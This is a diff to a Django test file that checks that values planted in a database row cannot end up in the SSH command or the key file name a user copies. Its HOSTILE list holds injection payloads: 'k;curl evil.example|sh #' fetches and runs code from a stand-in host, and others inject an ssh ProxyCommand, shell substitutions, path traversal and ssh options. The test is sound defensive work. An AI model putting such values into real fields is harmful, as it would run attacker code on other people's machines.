@@ -9,6 +9,8 @@ from django.test import RequestFactory
 from django.urls import reverse
 
 from ondol.instances.lifecycle import Status
+from ondol.instances.models import Instance, SshKey
+from ondol.instances.ssh import command, options
 from ondol.policy.models import Policy
 from ondol.web.machine.connect import WAYS, Connect, connect_to, way_for
 from tests.instances.keys import PEM
@@ -158,6 +160,36 @@ def test_bob_takes_his_key_for_putty(bob, browser_of):
     answer = browser_of(bob).post(reverse("machine_key"), {"form": "ppk"})
     assert answer.content.startswith(b"PuTTY-User-Key-File-2: ssh-rsa\n")
     assert f'filename="ondol-bob-{str(row.pk)[:8]}.ppk"' in answer.headers["Content-Disposition"]
+
+
+HOSTILE = [
+    "k;curl evil.example|sh #",
+    "k\n  ProxyCommand sh -c evil\n#",
+    "$(evil)",
+    "`evil`",
+    '"',
+    "../../x",
+    "-oX=y",
+    "k k",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_what_mallory_writes_into_a_row_is_in_no_command_that_bob_pastes(bob, browser_of, text):
+    """Bob's computer is not ours: a name in the database that reached his shell would be code there."""
+    row = machine(bob, Status.RUNNING, public_ip="203.0.113.24", instance_id="i-0123456789abcdef0")
+    SshKey.objects.filter(instance=row).update(file_stem=text[:80])
+    Instance.objects.filter(pk=row.pk).update(instance_id=text[:32])
+    row = Instance.objects.get(pk=row.pk)
+    names = Connect(f"ondol-bob-{str(row.pk)[:8]}.pem", "203.0.113.24", str(row.pk))
+    assert connect_to(row) == names
+    assert command(row) == f"ssh {options(f'~/.ssh/{names.key_file}', 22)} ubuntu@203.0.113.24"
+    browser = browser_of(bob)
+    page = browser.get("/").content.decode()
+    assert names.key_file in page
+    assert "evil" not in page
+    taken = browser.post(reverse("machine_key"))
+    assert taken.headers["Content-Disposition"] == f'attachment; filename="{names.key_file}"'
 
 
 def test_without_a_key_it_says_so(bob, browser_of):
